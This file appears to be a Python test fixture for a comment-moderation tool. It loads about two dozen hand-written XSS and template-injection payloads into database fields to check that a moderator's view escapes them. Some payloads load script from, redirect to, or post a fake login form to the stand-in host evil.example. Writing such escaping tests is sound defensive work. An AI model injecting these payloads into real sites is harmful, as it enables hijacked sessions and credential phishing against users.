"""What people hide in comments to have it run in a moderator's browser."""

from sqlalchemy import Engine, text

from tests.factories import digest
from worker.store.base.transactions import writing

# Written by hand after the kinds that OWASP's cheat sheet lists: tags, attributes, handlers, addresses, styles,
# templates, what ends a string, a comment or an element, and the same disguised.
PAYLOADS = (
    "<script>document.title='owned'</script>",
    "</div></article><script src=//evil.example/x.js></script>",
    "<img src=x onerror=document.title='owned'>",
    "<svg/onload=document.title='owned'>",
    '"><img src=x onerror=document.title=`owned`>',
    "' onmouseover='document.title=1' x='",
    "javascript:document.title='owned'",
    "data:text/html,<script>document.title='owned'</script>",
    "<a href=javascript:document.title='owned'>click</a>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Log in</button></form>",
    "</textarea></title></style></script><script>document.title=1</script>",
    "<!--><script>document.title=1</script>-->",
    "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%3Cscript%3Edocument.title=1%3C/script%3E",
    "&lt;script&gt;document.title=1&lt;/script&gt;",
    "\u202e<script>\u202cdocument.title=1",
    "<scr\u200bipt>document.title=1</scr\u200bipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title=1>",
    "<details open ontoggle=document.title=1>x</details>",
    "\x00<script>document.title=1</script>",
)


def poison(engine: Engine) -> None:
    """Store comments whose every field is a payload, under the first article; the second is named like some."""
    with writing(engine) as connection:
        for number, payload in enumerate(PAYLOADS):
            values = {"number": 1000 + number, "identity": digest(payload), "said": payload.replace("\0", "")}
            connection.execute(
                text(
                    "INSERT INTO comments (article_id, identity, position, depth, kind, gone, verdict, probability, "
                    "model, links, reasons, text, author, author_url, posted_raw, source, language) VALUES (1, "
                    ":identity, :number, 0, 'comment', false, 'review', 0.5, :said, json_array(:said), "
                    "json_array(json_array(:said, :said)), :said, :said, :said, :said, 'poison', :said)"
                ),
                values,
            )
        connection.execute(
            text("UPDATE articles SET title = :said, url = :said WHERE id = 2"), {"said": "".join(PAYLOADS[:6])}
        )
